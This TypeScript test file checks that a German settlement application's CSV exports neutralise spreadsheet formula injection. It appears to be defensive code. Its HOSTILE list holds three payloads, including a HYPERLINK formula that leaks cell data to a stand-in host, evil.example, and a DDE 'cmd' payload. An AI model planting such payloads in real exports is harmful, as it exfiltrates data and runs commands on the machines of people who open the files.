import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '../src/lib/csv.ts';
import { releasedBatchOf } from './released-batch.ts';
import { createTestContext, type TestContext } from './support.ts';

/** CSV formula injection (issue 10, finding 4): every CSV the system writes neutralises formula starts. */
let t: TestContext;
beforeAll(async () => {
  t = await createTestContext();
});
afterAll(() => t.close());

const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1;"Rechnung")', '@SUM(A1:A9)', "+1+cmd|' /C calc'!A0"];

describe('the CSV writer', () => {
  it("prefixes text cells starting with = + - @ tab CR with ', leaves amounts and numbers alone", () => {
    const csv = toCsv(
      ['Text', 'Betrag', 'Anzahl'],
      [
        ['=1+1', '-10,00', -3],
        ['-2+3', '12,50', 4],
        ['\tTab', '0,99', 0],
        ['\rCR', '-0,01', 1],
        ['@A1', '1234,00', 2],
        ['Verein e.V.', '5,00', 1],
      ],
    );
    const rows = parse(csv, { bom: true, delimiter: ';', relax_quotes: true }) as string[][];
    expect(rows.slice(1)).toEqual([
      ["'=1+1", '-10,00', '-3'],
      ["'-2+3", '12,50', '4'],
      ["'\tTab", '0,99', '0'],
      ["'\rCR", '-0,01', '1'],
      ["'@A1", '1234,00', '2'],
      ['Verein e.V.', '5,00', '1'],
    ]);
  });
});

describe('bookings.csv and the provider-spend CSV', () => {
  it('a provider named like a formula arrives as text; amounts stay numbers', async () => {
    const [acc1, acc2] = [await t.user('accounting'), await t.user('accounting')];
    const batchIds: string[] = [];
    for (const name of HOSTILE) {
      batchIds.push(
        await releasedBatchOf(t, { name, bic: 'COBADEFFXXX' }, { certifier: acc1.token, releaser: acc2.token }, 1500),
      );
    }
    const file = await t.call('POST', '/api/v1/settlements/payment-files', { token: acc1.token, body: { batchIds } });
    expect(file.statusCode).toBe(201);
    const csv = await t.call('GET', `/api/v1/settlements/payment-files/${file.json().id}/bookings.csv`, {
      token: acc1.token,
    });
    const bookings = parse(csv.body, { bom: true, delimiter: ';', columns: true }) as Record<string, string>[];
    expect(bookings.map((r) => r.Anbieter).sort()).toEqual(HOSTILE.map((n) => `'${n}`).sort());
    expect(bookings.map((r) => r.Betrag)).toEqual(['15,00', '15,00', '15,00']);

    const spend = await t.call('GET', '/api/v1/reports/provider-spend?from=2026-11-01&to=2026-11-30&format=csv', {
      token: acc1.token,
    });
    const rows = parse(spend.body, { bom: true, delimiter: ';', columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.Anbieter).sort()).toEqual(HOSTILE.map((n) => `'${n}`).sort());
    expect(rows.every((r) => r.Betrag === '15,00' && r.Buchungen === '1')).toBe(true);
  });
});
